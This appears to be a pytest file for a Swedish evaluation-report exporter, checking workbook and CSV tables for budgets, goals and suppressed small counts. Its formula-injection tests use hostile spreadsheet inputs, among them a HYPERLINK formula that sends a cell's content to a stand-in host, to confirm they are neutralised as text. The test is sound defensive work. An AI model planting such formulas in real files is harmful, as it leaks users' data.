"""The tables for spreadsheet users: the project and portfolio workbooks and the two CSV dialects."""
from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils import get_column_letter

import evaltools as et

from .conftest import PARAMS, write_csv

FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A2,"Klicka här")', "+1+1", "-2+3", "@SUM(A1:A9)"]


@pytest.fixture(scope="module")
def timra(tmp_path_factory):
    out = tmp_path_factory.mktemp("timra")
    et.export_report(et.Report(PARAMS / "timra-vagen-ut.yaml"), out)
    return out


def _sheet_rows(ws) -> list[list[object]]:
    return [[c.value for c in row] for row in ws.iter_rows()]


def _column(ws, heading: str) -> list[openpyxl.cell.Cell]:
    header = [c.value for c in ws[1]]
    j = header.index(heading)
    return [row[j] for row in ws.iter_rows(min_row=2) if any(c.value is not None for c in row)]


def test_workbook_has_a_first_sheet_that_explains_it(timra):
    wb = openpyxl.load_workbook(timra / "timra-vagen-ut-tabeller.xlsx")
    assert wb.sheetnames[0] == "Om tabellerna"
    about = " ".join(str(v) for row in _sheet_rows(wb["Om tabellerna"]) for v in row if v)
    assert "Vägen ut för sjukskrivna" in about
    assert "Antal personer under 5 visas inte" in about and "En tom cell är alltså inte noll" in about
    assert "participants.csv" in about and "budget.csv" in about  # the sources
    for name in wb.sheetnames[1:]:  # every table is listed, with what it holds
        assert name in about
        # the headings stay in view; on a sheet wider than a screen (160 characters of 7 pixels) the first
        # column too
        ws = wb[name]
        wide = sum(ws.column_dimensions[get_column_letter(j)].width for j in range(1, ws.max_column + 1)) > 160
        assert ws.freeze_panes == ("B2" if wide and ws.max_column > 2 else "A2"), name
    # the goals' sheet, a goal's name beside some twenty figures, is wider than any screen
    assert wb["Mål"].freeze_panes == "B2"


def test_workbook_headings_are_words_not_internal_names(timra):
    wb = openpyxl.load_workbook(timra / "timra-vagen-ut-tabeller.xlsx")
    assert [c.value for c in wb["Mål"][1]] == [
        "Mål", "Typ av mål", "Period", "Andel av perioden som gått", "Förkortad period", "Pågår vid analysdatumet",
        "Underlag", "Utfall", "Räknar (personer eller hushåll, vart och ett en gång)",
        "Täljare (de av dem som uppfyller målet)",
        "Nämnare (alla som målet räknar: avslut, deltagare, hushåll eller svarande; se Räknar)", "Målvärde", "Målvärde för periodens längd",
        "95\u00a0% KI, nedre (Clopper–Pearson)", "95\u00a0% KI, övre (Clopper–Pearson)", "p-värde, ensidigt exakt (under målet)",
        "p-värde, ensidigt exakt (över målet)", "Intervallet mot målet", "För få för att bedöma",
            "Summa över perioderna (där en period är dold)", "Målets källa",
        "Projektets huvudmål", "Bedömning för perioden", "Bedömning av målet (alla perioder)",
        "En period pågår (målets bedömning gäller de avslutade)", "Underlag för utvärderarens bedömning", "Anmärkning"]
    internal = {"goal_id", "fraction_run", "p_below_target", "ci_verdict", "ej_bedömt", "ej_uppnått", "kommun", "stat",
                "uppnått_osäkert", "delvis_osäkert", "ej_uppnått_osäkert", "pågår", "assessed",
                "observed", "participant_count", "chi2", "True", "False", "förbund", "monthly_level", "..", "<5", "–"}
    for ws in wb.worksheets[1:]:
        header = [c.value for c in ws[1]]
        for row in ws.iter_rows():
            for c, h in zip(row, header):
                if h == "Dolda uppgifter":
                    continue
                assert str(c.value) not in internal, (ws.title, c.coordinate, c.value)
                assert not isinstance(c.value, bool), (ws.title, c.coordinate)


def test_workbook_numbers_are_numbers_with_formats(timra):
    wb = openpyxl.load_workbook(timra / "timra-vagen-ut-tabeller.xlsx")
    budget = wb["Budget"]
    actual = _column(budget, "Utfall")
    # the final report: 1 128 000 kr used of 1 276 000 kr
    assert sum(c.value or 0 for c in actual) == 1_128_000
    assert sum(c.value or 0 for c in _column(budget, "Budget")) == 1_276_000
    assert all(c.number_format == '#,##0 "kr";-#,##0 "kr"' for c in actual)
    # Externa tjänster: 134 000 of 150 000 kr = 89,3 %, a share formatted as a percentage, shown as the report's
    # budget table writes it in Swedish: in whole per cent, a non-breaking space before the sign ("89 %")
    row = [r for r in budget.iter_rows(min_row=2) if r[1].value == "Externa tjänster: utvärdering"][0]
    used = row[[c.value for c in budget[1]].index("Förbrukat av budgeten")]
    assert used.value == pytest.approx(134_000 / 150_000) and used.number_format == '0"\u00a0"%'
    assert row[0].value == "Hela perioden"  # the budget file's "hela", as a reader says it
    goals = wb["Mål"]
    shares = [c for c in _column(goals, "Utfall") if c.number_format == '0.0"\u00a0"%']
    # år 1: 18 of 37, år 2: 13 of 15, the whole period 31 of 52 (the final report's 48,6 / 86,7 / 59,6 %)
    assert [round(c.value, 4) for c in shares] == [round(18 / 37, 4), round(13 / 15, 4), round(31 / 52, 4)]
    cut = _column(goals, "Förkortad period")
    assert {c.value for c in cut} == {"Ja", "Nej"}
    key = {r[0].value: r[1] for r in wb["Kostnad och nytta"].iter_rows(min_row=2)}
    assert key["Kostnad per deltagare"].value == pytest.approx(1_128_000 / 52, abs=0.01)
    assert key["Kostnad per deltagare"].number_format == '#,##0 "kr";-#,##0 "kr"'
    assert key["Prisår"].value == 2019 and key["Prisår"].number_format == "0"
    assert key["Underlag"].value == "Uppmätt utfall"


def test_suppressed_cells_are_empty_with_a_mark(timra):
    wb = openpyxl.load_workbook(timra / "timra-vagen-ut-tabeller.xlsx")
    ws = wb["Deltagare"]
    assert [c.value for c in ws[1]] == ["Uppdelning", "Grupp", "Antal", "Andel", "Dolda uppgifter"]
    rows = {(r[0].value, r[1].value): r for r in ws.iter_rows(min_row=2)}
    young = rows[("Åldersgrupp", "18–29")]  # hidden so that the "<5" of 60+ cannot be worked out
    assert young[2].value is None and young[3].value is None
    assert young[2].comment is not None and young[2].comment.text.startswith("..")
    assert young[4].value == "Antal: ..; Andel: .."
    old = rows[("Åldersgrupp", "60+")]
    assert old[2].value is None and old[2].comment.text == "<5: färre än 5 personer"
    assert old[4].value.startswith("Antal: <5")
    women = rows[("Kön", "Kvinna")]
    assert women[2].value == 26 and women[4].value is None
    # the CSV for Excel: the same empty cells and the same mark
    with open(timra / "tables" / "deltagare.csv", encoding="utf-8-sig", newline="") as f:
        lines = {(r["Uppdelning"], r["Grupp"]): r for r in csv.DictReader(f, delimiter=";")}
    assert lines[("Åldersgrupp", "60+")]["Antal"] == "" and lines[("Åldersgrupp", "60+")]["Dolda uppgifter"].startswith("Antal: <5")


def test_csv_for_excel_and_machine_readable_csv(timra):
    raw = (timra / "tables" / "budget.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, so that Excel reads å, ä, ö"
    first, second = raw.decode("utf-8-sig").splitlines()[:2]
    assert first.startswith("Period;Kostnadspost;Finansiär;Budget;Utfall;")
    with open(timra / "tables" / "budget.csv", encoding="utf-8-sig", newline="") as f:
        rows = {r["Kostnadspost"]: r for r in csv.DictReader(f, delimiter=";")}
    assert rows["Externa tjänster: utvärdering"]["Förbrukat av budgeten"] == "0,8933"  # 134 000 / 150 000, decimal comma
    assert rows["Externa tjänster: utvärdering"]["Differens (utfall − budget)"] == "-16000"
    data = (timra / "tables-data" / "budget.csv").read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    with open(timra / "tables-data" / "budget.csv", encoding="utf-8", newline="") as f:
        rows = {r["category"]: r for r in csv.DictReader(f)}
    assert float(rows["Externa tjänster: utvärdering"]["used_pct"]) == pytest.approx(134_000 / 150_000, rel=1e-9)
    assert rows["Externa tjänster: utvärdering"]["funder"] == "förbund"  # codes, for scripts
    with open(timra / "tables-data" / "mal.csv", encoding="utf-8", newline="") as f:
        goals = list(csv.DictReader(f))
    assert goals[0]["goal_id"] == "handlagda" and goals[0]["cut"] == "false" and goals[0]["status"] == "ej_uppnått"


def test_english_workbook(tmp_path):
    et.export_report(et.Report(PARAMS / "timra-vagen-ut.yaml", lang="en"), tmp_path)
    wb = openpyxl.load_workbook(tmp_path / "timra-vagen-ut-tabeller.xlsx")
    assert wb.sheetnames[:3] == ["About the tables", "Goals", "Budget"]
    actual = _column(wb["Budget"], "Actual")
    assert actual[0].number_format == '"SEK "#,##0;-"SEK "#,##0'
    assert {c.value for c in _column(wb["Goals"], "Period cut short")} == {"Yes", "No"}


# --- formula injection (OWASP CSV injection) ----------------------------------------------------
@pytest.fixture
def hostile(tiny_project):
    data = tiny_project.dir / "data"
    write_csv(data / "budget.csv", [{"period": "2022", "category": f, "budget": 1000 * (i + 1), "actual": 900 * (i + 1)}
                                    for i, f in enumerate(FORMULAS)])
    goal = ('goals:\n  - id: g1\n    kind: participant_count\n    label: "=1+1"\n    target: 5\n'
            '    period: whole_period\n')
    return tiny_project(goal)


def test_formulas_in_text_are_written_as_text(hostile, tmp_path):
    out = tmp_path / "out"
    et.export_report(et.Report(hostile), out)
    wb = openpyxl.load_workbook(out / "tiny-tabeller.xlsx")
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
    categories = _column(wb["Budget"], "Kostnadspost")
    assert [c.value for c in categories] == FORMULAS  # the text as written, kept whole
    assert all(c.data_type == "s" for c in categories)
    assert [c.value for c in _column(wb["Mål"], "Mål")][0] == "=1+1"
    # numbers stay numbers, negative ones too
    diff = _column(wb["Budget"], "Differens (utfall − budget)")
    assert [c.value for c in diff] == [-100 * (i + 1) for i in range(len(FORMULAS))]
    for folder, delimiter, encoding, col in (("tables", ";", "utf-8-sig", "Kostnadspost"), ("tables-data", ",", "utf-8", "category")):
        with open(out / folder / "budget.csv", encoding=encoding, newline="") as f:
            rows = list(csv.DictReader(f, delimiter=delimiter))
        assert [r[col] for r in rows] == ["'" + v for v in FORMULAS], folder
        diff_col = "Differens (utfall − budget)" if folder == "tables" else "difference"
        assert [r[diff_col] for r in rows] == [str(-100 * (i + 1)) for i in range(len(FORMULAS))]


def test_portfolio_workbook(hostile, tmp_path):
    from evaltools.present.portfolio import Portfolio
    params = Path(hostile)
    params.write_text(params.read_text(encoding="utf-8").replace("title: Litet testprojekt", "title: '=HYPERLINK(\"x\")'"),
                      encoding="utf-8")
    files = et.export_portfolio(Portfolio([params]), tmp_path)
    assert {p.name for p in files} == {"portfolio.xlsx", "portfolio.csv", "portfolio-data.csv"}
    wb = openpyxl.load_workbook(tmp_path / "portfolio.xlsx")
    # (the project's goals with their verdicts on a sheet of their own, its hostile title a text there too)
    assert wb.sheetnames == ["Om tabellerna", "Projekt", "Måluppfyllelse"]
    goal_title = _column(wb["Måluppfyllelse"], "Projekt")[0]
    assert goal_title.value == '=HYPERLINK("x")' and goal_title.data_type == "s"
    ws = wb["Projekt"]
    assert [c.value for c in ws[1]][:4] == ["Projekt-id", "Projekt", "Period", "Underlag"]
    title = _column(ws, "Projekt")[0]
    assert title.value == '=HYPERLINK("x")' and title.data_type == "s"
    assert _column(ws, "Deltagare")[0].value == 4
    assert _column(ws, "Underlag")[0].value == "Uppmätt utfall"
    cost = _column(ws, "Kostnad (utfall, annars budget)")[0]
    assert cost.value == pytest.approx(sum(900 * (i + 1) for i in range(len(FORMULAS)))) and "kr" in cost.number_format
    with open(tmp_path / "portfolio.csv", encoding="utf-8-sig", newline="") as f:
        (row,) = list(csv.DictReader(f, delimiter=";"))
    assert row["Projekt"] == "'=HYPERLINK(\"x\")"


def test_tab_and_carriage_return_are_neutralised_too(tmp_path):
    import pandas as pd

    from evaltools.publish.workbook import Column, Sheet, write_csv, write_workbook
    frame = pd.DataFrame({"text": ["\tTAB", "\rCR", "plain", "a-b", "=1"], "amount": [-5.0, 1.5, 2.0, -0.6, 0.0]})
    sheet = Sheet("t", "workbook.sheets.budget.title", "workbook.sheets.budget.description", frame,
                  [Column("text", "workbook.column.budget.category"), Column("amount", "workbook.column.budget.budget", "kr")])
    write_csv(tmp_path / "t.csv", sheet, "sv")
    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f, delimiter=";"))
    assert [r[0] for r in rows[1:]] == ["'\tTAB", "'\rCR", "plain", "a-b", "'=1"]
    assert [r[1] for r in rows[1:]] == ["-5", "2", "2", "-1", "0"]  # whole kronor, numbers never prefixed
    write_workbook(tmp_path / "t.xlsx", [sheet], "sv", 5)
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["Budget"]
    # (a carriage return reads back as a line break through the standard library's XML parser and as
    # itself through lxml, which python-docx brings in: the text stays text either way)
    values = [c.value for c in _column(ws, "Kostnadspost")]
    assert values[1] in ("\nCR", "\rCR")
    assert values[:1] + values[2:] == ["\tTAB", "plain", "a-b", "=1"]
    assert all(c.data_type == "s" for c in _column(ws, "Kostnadspost"))
    assert [c.value for c in _column(ws, "Budget")] == [-5, 1.5, 2, -0.6, 0]


def test_the_about_sheet_holds_its_dates_as_date_cells(tiny_project, tmp_path):
    import datetime as dt
    path = tiny_project("data_as_of: 2023-06-30\n")
    out = tmp_path / "out"
    et.export_report(et.Report(path), out)
    ws = openpyxl.load_workbook(out / "tiny-tabeller.xlsx")["Om tabellerna"]
    by_item = {row[0].value: row[1] for row in ws.iter_rows(min_col=1, max_col=2) if row[0].value}
    data_up_to = next(c for item, c in by_item.items() if str(item).startswith("Data till och med"))
    made = next(c for item, c in by_item.items() if str(item).startswith("Skapad"))
    for c, day in ((data_up_to, dt.date(2023, 6, 30)), (made, dt.date.today())):
        assert c.is_date and c.value.date() == day and c.number_format == "yyyy-mm-dd", (c.value, c.number_format)
